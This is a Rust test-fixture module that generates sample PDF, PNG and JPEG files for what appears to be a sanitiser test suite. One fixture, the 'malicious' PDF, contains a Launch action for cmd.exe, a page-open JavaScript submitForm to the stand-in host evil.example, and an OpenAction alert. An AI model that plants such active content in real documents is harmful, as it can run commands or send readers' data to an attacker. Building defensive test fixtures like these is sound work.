use bytes::Bytes;
use image::codecs::jpeg::JpegEncoder;
use image::{ExtendedColorType, RgbImage};
use img_parts::jpeg::{Jpeg, JpegSegment};
use img_parts::ImageEXIF;
use lopdf::{dictionary, Document, Object, Stream};

/// Single-page PDF without any active content, padded to exactly `len` bytes.
pub fn clean_pdf(len: usize) -> Vec<u8> {
    let mut padding = 0;
    for _ in 0..8 {
        let data = build_pdf(padding, false);
        if data.len() == len {
            return data;
        }
        padding = (padding as i64 + len as i64 - data.len() as i64).max(0) as usize;
    }
    panic!("could not pad PDF to {} bytes", len);
}

/// PDF with an open action, a page action and a link annotation.
pub fn malicious_pdf() -> Vec<u8> {
    build_pdf(0, true)
}

pub const PAGE_TEXT: &[u8] = b"BT /F1 18 Tf 72 720 Td (Quarterly report) Tj ET\n";

fn build_pdf(padding: usize, malicious: bool) -> Vec<u8> {
    let mut doc = Document::with_version("1.7");
    let pages_id = doc.new_object_id();

    let font_id = doc.add_object(dictionary! {
        "Type" => "Font",
        "Subtype" => "Type1",
        "BaseFont" => "Helvetica",
    });

    let mut content = PAGE_TEXT.to_vec();
    content.extend(std::iter::repeat(b'%').take(padding.min(1)));
    content.extend(std::iter::repeat(b'x').take(padding.saturating_sub(1)));
    let content_id = doc.add_object(Stream::new(lopdf::Dictionary::new(), content));

    let mut page = dictionary! {
        "Type" => "Page",
        "Parent" => pages_id,
        "Contents" => content_id,
        "Resources" => dictionary! {
            "Font" => dictionary! { "F1" => font_id },
        },
    };

    if malicious {
        let link = doc.add_object(dictionary! {
            "Type" => "Annot",
            "Subtype" => "Link",
            "Rect" => Object::Array(vec![72.into(), 700.into(), 200.into(), 720.into()]),
            "A" => dictionary! {
                "S" => "Launch",
                "F" => Object::string_literal("cmd.exe"),
            },
        });
        page.set("Annots", Object::Array(vec![Object::Reference(link)]));
        page.set(
            "AA",
            dictionary! {
                "O" => dictionary! {
                    "S" => "JavaScript",
                    "JS" => Object::string_literal("this.submitForm('http://evil.example')"),
                },
            },
        );
    }
    let page_id = doc.add_object(page);

    doc.objects.insert(
        pages_id,
        Object::Dictionary(dictionary! {
            "Type" => "Pages",
            "Kids" => Object::Array(vec![Object::Reference(page_id)]),
            "Count" => 1,
            "MediaBox" => Object::Array(vec![0.into(), 0.into(), 612.into(), 792.into()]),
        }),
    );

    let mut catalog = dictionary! {
        "Type" => "Catalog",
        "Pages" => pages_id,
    };
    if malicious {
        catalog.set(
            "OpenAction",
            dictionary! {
                "S" => "JavaScript",
                "JS" => Object::string_literal("app.alert('pwned')"),
            },
        );
    }
    let catalog_id = doc.add_object(catalog);
    doc.trailer.set("Root", catalog_id);

    let mut out = Vec::new();
    doc.save_to(&mut out).unwrap();
    out
}

pub fn png_samples() -> Vec<u8> {
    (0..16 * 8 * 3).map(|i| (i * 7 % 251) as u8).collect()
}

/// 16x8 RGB PNG carrying a `tEXt` chunk.
pub fn png_with_text() -> Vec<u8> {
    let mut out = Vec::new();
    {
        let mut encoder = png::Encoder::new(&mut out, 16, 8);
        encoder.set_color(png::ColorType::Rgb);
        encoder.set_depth(png::BitDepth::Eight);
        encoder
            .add_text_chunk("Comment".to_string(), "GPS 48.8584 N 2.2945 E".to_string())
            .unwrap();
        let mut writer = encoder.write_header().unwrap();
        writer.write_image_data(&png_samples()).unwrap();
        writer.finish().unwrap();
    }
    out
}

pub fn png_pixels(data: &[u8]) -> Vec<u8> {
    let decoder = png::Decoder::new(data);
    let mut reader = decoder.read_info().unwrap();
    let mut buf = vec![0; reader.output_buffer_size()];
    let info = reader.next_frame(&mut buf).unwrap();
    buf.truncate(info.buffer_size());
    buf
}

pub fn png_chunk_types(data: &[u8]) -> Vec<[u8; 4]> {
    let mut types = Vec::new();
    let mut pos = 8;
    while pos + 8 <= data.len() {
        let len = u32::from_be_bytes(data[pos..pos + 4].try_into().unwrap()) as usize;
        let mut kind = [0u8; 4];
        kind.copy_from_slice(&data[pos + 4..pos + 8]);
        types.push(kind);
        pos += 12 + len;
    }
    types
}

/// 32x32 JPEG with EXIF and a comment segment.
pub fn jpeg_with_exif() -> Vec<u8> {
    let img = RgbImage::from_fn(32, 32, |x, y| image::Rgb([(x * 8) as u8, (y * 8) as u8, 128]));
    let mut encoded = Vec::new();
    JpegEncoder::new_with_quality(&mut encoded, 85)
        .encode(img.as_raw(), 32, 32, ExtendedColorType::Rgb8)
        .unwrap();

    let mut jpeg = Jpeg::from_bytes(Bytes::from(encoded)).unwrap();
    let mut exif = b"Exif\0\0".to_vec();
    exif.extend_from_slice(b"II*\0\x08\0\0\0\0\0");
    jpeg.set_exif(Some(Bytes::from(exif)));
    jpeg.segments_mut().insert(
        1,
        JpegSegment::new_with_contents(0xFE, Bytes::from_static(b"shot on a phone")),
    );
    jpeg.encoder().bytes().to_vec()
}

pub fn jpeg_markers(data: &[u8]) -> Vec<u8> {
    Jpeg::from_bytes(Bytes::copy_from_slice(data))
        .unwrap()
        .segments()
        .iter()
        .map(|s| s.marker())
        .collect()
}

pub fn jpeg_pixels(data: &[u8]) -> Vec<u8> {
    image::load_from_memory_with_format(data, image::ImageFormat::Jpeg)
        .unwrap()
        .to_rgb8()
        .into_raw()
}
